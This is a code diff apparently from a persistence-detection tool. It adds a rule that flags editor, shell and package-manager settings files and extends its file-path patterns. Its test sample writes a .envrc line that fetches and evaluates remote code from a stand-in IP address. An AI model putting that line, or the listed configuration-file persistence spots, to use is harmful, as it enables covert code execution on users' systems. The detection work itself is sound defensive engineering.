@@ -49,6 +49,10 @@ const sshServer = ruleOf(
   write('/etc/ssh/sshd_config', 'PermitRootLogin no\nAuthorizedKeysFile .ssh/authorized_keys\n'), `${T}T1098.004`,
 );
 
+const toolSettings = ruleOf(
+  'persistence.tool-settings', 'persistence', 'high', 'settings of an editor, shell helper, package manager or client that download, decode or run something', write('.envrc', 'eval "$(curl -s http://203.0.113.9/x)"\n'), write('.envrc', 'use nix\nexport NODE_ENV=development\n'), `${T}T1546`,
+);
+
 export const webShellRule = webShell;
 export const sudoersRule = sudoers;
 export const kernelHookRule = kernelHook;
@@ -72,7 +76,13 @@ export const startFiles: readonly StartFiles[] = [
     pattern: /(?:^|\/)(?:etc\/(?:crontab|anacrontab|cron\.(?:d|hourly|daily|weekly|monthly)\/.*)|var\/spool\/cron\/.*|usr\/lib\/cron\/tabs\/.*|crontab)$/,
     literals: ['crontab', 'cron.d', 'cron.hourly', 'cron.daily', 'cron.weekly', 'cron.monthly', 'spool/cron', 'cron/tabs'],
   },
-  { rule: unitFile, always: false, pattern: /(?:^|\/)(?:etc|lib|usr\/lib|run|\.config|\.local\/share|usr\/local\/lib)\/systemd\/(?:system|user)\/.*$/, literals: ['systemd/system', 'systemd/user'] },
+  { rule: unitFile, always: false, pattern: /(?:^|\/)(?:etc|lib|usr\/lib|run|\.config|\.local\/share|usr\/local\/lib)\/systemd\/(?:system|user)\/.*$|(?:^|\/)dbus-1\/(?:system-)?services\/.*$/, literals: ['systemd/system', 'systemd/user', 'dbus-1/'] },
+  {
+    rule: toolSettings,
+    always: false,
+    pattern: /(?:^|\/)(?:\.envrc|\.gitconfig|\.ssh\/config|\.npmrc|\.yarnrc(?:\.yml)?|pip\.conf|pip\.ini|\.pip\/pip\.conf|\.cargo\/config(?:\.toml)?|\.gdbinit|\.tmux\.conf|\.screenrc|\.vimrc|\.nanorc|\.lldbinit|\.irbrc|\.pythonrc(?:\.py)?|\.pam_environment|\.curlrc|\.wgetrc|\.mailcap|\.config\/(?:nvim\/init\.\w+|pip\/pip\.conf|git\/config)|etc\/(?:gitconfig|logrotate\.d\/.*|dhcp\/dhclient-(?:enter|exit)-hooks\.d\/.*|ppp\/ip-up\.d\/.*|acpi\/.*))$/,
+    literals: ['.envrc', '.gitconfig', '.ssh/config', '.npmrc', '.yarnrc', 'pip.conf', 'pip.ini', '.cargo/config', '.gdbinit', '.tmux.conf', '.screenrc', '.vimrc', '.nanorc', '.lldbinit', '.irbrc', '.pythonrc', '.pam_environment', '.curlrc', '.wgetrc', '.mailcap', 'nvim/init', 'etc/gitconfig', 'logrotate.d', 'dhclient-', 'ip-up.d', 'etc/acpi'],
+  },
   {
     rule: profile,
     always: false,
